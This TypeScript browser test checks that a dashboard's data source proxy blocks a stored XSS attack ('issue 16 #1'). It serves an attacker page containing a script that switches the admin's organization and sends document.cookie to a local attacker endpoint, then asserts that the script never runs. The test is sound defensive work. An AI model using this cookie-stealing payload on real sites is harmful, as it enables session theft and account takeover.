// Issue 16 #1 in a real browser: an attacker points a data source at a server
// answering text/html with a script, and sends the server admin the proxy
// link. Opened in Chromium with the admin's session cookie, the script must
// not run: no marker on the page, no request to the attacker's server, and
// the admin's current organization unchanged. Checked for the link as sent
// (targetOrgId of the attacker's organization), for a data source of the
// admin's own organization (a download), and for the page rendered inline
// despite the download header (the CSP sandbox alone must hold).
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ADMIN } from "../helpers/api.ts";
import { launchBrowser } from "../helpers/browser.ts";
import { useServer } from "../helpers/server.ts";

describe("data source proxy XSS (issue 16 #1) in Chromium", () => {
  const t = useServer();
  let attacker: Server;
  let attackerUrl = "";
  const hits: string[] = [];
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let ownUid = "";
  let otherUid = "";
  let otherOrg = 0;

  beforeAll(async () => {
    attacker = createServer((req, res) => {
      hits.push(req.url ?? "");
      if (req.url?.startsWith("/marker")) {
        res.writeHead(204).end();
        return;
      }
      res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" });
      res.end(`<!doctype html><html><head><title>report</title></head><body>
        <script>
          document.documentElement.dataset.pwned = "1";
          fetch("/api/user/using/${"${ORG}"}", { method: "POST" });
          new Image().src = "${"${ATTACKER}"}/marker?c=" + encodeURIComponent(document.cookie);
        </script></body></html>`.replaceAll("${ORG}", String(otherOrg)).replaceAll("${ATTACKER}", attackerUrl));
    });
    await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

    // the attacker's organization, the admin a member of it, a data source there; one in the admin's own organization too
    const org = await t.api.post("/api/orgs", { auth: ADMIN, body: { name: "Attacker Org" } });
    expect(org.status).toBe(200);
    otherOrg = org.body.orgId;
    const ds = async (name: string, orgId: number) => {
      const r = await t.api.post("/api/datasources", {
        auth: ADMIN, headers: { "X-Svc-Org-Id": String(orgId) }, body: { name, type: "prometheus", access: "proxy", url: attackerUrl },
      });
      expect(r.status).toBe(200);
      return r.body.datasource.uid as string;
    };
    otherUid = await ds("attacker-page", otherOrg);
    ownUid = await ds("own-page", 1);

    browser = await launchBrowser();
    context = await browser.newContext({ acceptDownloads: true });
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
    // signed in as the admin page does it: the session cookie
    await page.goto(`${t.server.urls.dashboard}/api/health`);
    const login = await page.evaluate(async () => {
      const r = await fetch("/login", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ user: "admin", password: "admin" }) });
      return r.status;
    });
    expect(login).toBe(200);
    expect((await context.cookies()).map((c) => c.name)).toContain("svc_session");
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
  });

  /** the admin's current organization, asked with the browser's cookie */
  const currentOrg = () => page.evaluate(async () => (await (await fetch("/api/user")).json()).orgId as number);

  /** opens a link as the admin would; a download aborts the navigation, which is fine */
  async function open(url: string): Promise<void> {
    const download = page.waitForEvent("download", { timeout: 3000 }).catch(() => undefined);
    await page.goto(url).catch(() => undefined);
    await download;
    // a script would have run on load; give it time to act before looking
    await page.waitForTimeout(1000);
  }

  async function expectNoScriptRan(): Promise<void> {
    expect(hits.filter((h) => h.startsWith("/marker"))).toEqual([]);
    const pwned = await page.evaluate(() => document.documentElement.dataset.pwned ?? null).catch(() => null);
    expect(pwned).toBeNull();
    await page.goto(`${t.server.urls.dashboard}/api/health`);
    expect(await currentOrg()).toBe(1);
  }

  it("the link as sent (targetOrgId of the attacker's organization): the script does not run, the org is unchanged", async () => {
    expect(await currentOrg()).toBe(1);
    await open(`${t.server.urls.dashboard}/api/datasources/proxy/uid/${otherUid}/x.html?targetOrgId=${otherOrg}`);
    await expectNoScriptRan();
  }, 60_000);

  it("a data source of the admin's own organization (proxy and resources): the script does not run", async () => {
    await open(`${t.server.urls.dashboard}/api/datasources/proxy/uid/${ownUid}/x.html`);
    await expectNoScriptRan();
    await open(`${t.server.urls.dashboard}/api/datasources/uid/${ownUid}/resources/x.html`);
    await expectNoScriptRan();
  }, 60_000);

  it("the same page rendered inline (download header taken off): CSP sandbox alone keeps the script from running", async () => {
    const path = `/api/datasources/proxy/uid/${ownUid}/inline.html`;
    await page.route(`**${path}`, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers["content-disposition"];
      await route.fulfill({ response, headers });
    });
    await page.goto(`${t.server.urls.dashboard}${path}`);
    expect(await page.title()).toBe("report");
    await page.waitForTimeout(1000);
    await expectNoScriptRan();
  }, 60_000);
});
